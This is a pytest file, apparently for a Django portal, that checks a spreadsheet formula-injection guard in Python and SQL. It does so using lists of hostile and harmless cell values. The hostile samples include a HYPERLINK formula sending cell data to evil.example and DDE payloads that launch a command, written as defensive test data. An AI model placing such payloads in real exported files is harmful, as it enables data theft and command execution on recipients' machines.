"""Every formula is inert, in Python and in SQL alike; everything else is left as it is."""

import datetime
from decimal import Decimal

import pytest
from django.db import connection
from psycopg import sql

from portal.core.spreadsheets import guard, guard_sql

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\ttext",
    "\rtext",
    "\ntext",
    " =1+1",
    "\u00a0=1+1",
    "\u00a0 \u00a0@SUM(A1)",
    "\u2003=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " \uff1d1+1",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe631+1",
    "\ufe6bSUM(1)",
    "\u22121+1",
    "=",
    "-",
    "-5",
]
WITH_NUL = ["\0=1+1", "\0text", " \0=1"]
HARMLESS = [
    "",
    " ",
    "text",
    "a=b",
    "1+1",
    "p = 0.05",
    "'=1+1",
    '"=1+1"',
    "CAR T-cell therapy",
    "(=1)",
    "#N/A",
    "1 December 2025",
    "line\ntwo; three\tfour",
    "a; b - c\n\nd",
    "é",
]


@pytest.mark.parametrize("value", FORMULAS + WITH_NUL)
def test_a_formula_becomes_text(value):
    assert guard(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_text_is_left_alone(value):
    assert guard(value) == value


WITHIN = [
    ("a;=1+1", "a;'=1+1"),
    ("a; \u00a0=1+1;-2", "a;' \u00a0=1+1;'-2"),
    ("a\t=1+1", "a\t'=1+1"),
    ("a\r\n=1+1\n\u200e@x", "a\r\n'=1+1\n'\u200e@x"),
    ('a;"=1+1', "a;'\"=1+1"),
    ('a;""\uff1d1+1', 'a;\'""\uff1d1+1'),
    ("=1;=2", "'=1;'=2"),
    # Both at the beginning of the cell and after what may end it.
    ("\t=1+1", "'\t'=1+1"),
    ("\r=1+1", "'\r'=1+1"),
    ("\n=1+1", "'\n'=1+1"),
    ("\r\n=1+1", "'\r\n'=1+1"),
    ("   \t =1+1", "'   \t' =1+1"),
    ("\x01=1", "'\x01=1"),
    ("\u202e=1", "'\u202e=1"),
]


@pytest.mark.parametrize(("value", "guarded"), WITHIN)
def test_another_separator_begins_no_formula(value, guarded):
    assert guard(value) == guarded


def test_guarded_text_is_left_alone():
    assert [guard(guard(value)) for value in FORMULAS] == ["'" + value for value in FORMULAS]


@pytest.mark.parametrize(
    "value", [-5, 0, 2.5, -2.5, Decimal(-1), None, True, datetime.date(2025, 12, 1)]
)
def test_numbers_and_dates_are_left_alone(value):
    assert guard(value) is value


@pytest.mark.django_db
def test_the_database_guards_alike():
    values = [*FORMULAS, *HARMLESS, *(value for value, _guarded in WITHIN)]
    with connection.cursor() as cursor:
        cursor.execute(
            sql.SQL(
                "SELECT {} FROM unnest({}::text[]) WITH ORDINALITY AS v (t, n) ORDER BY n"
            ).format(guard_sql(sql.SQL("t")), sql.Literal(values))
        )
        assert [value for (value,) in cursor.fetchall()] == [guard(value) for value in values]
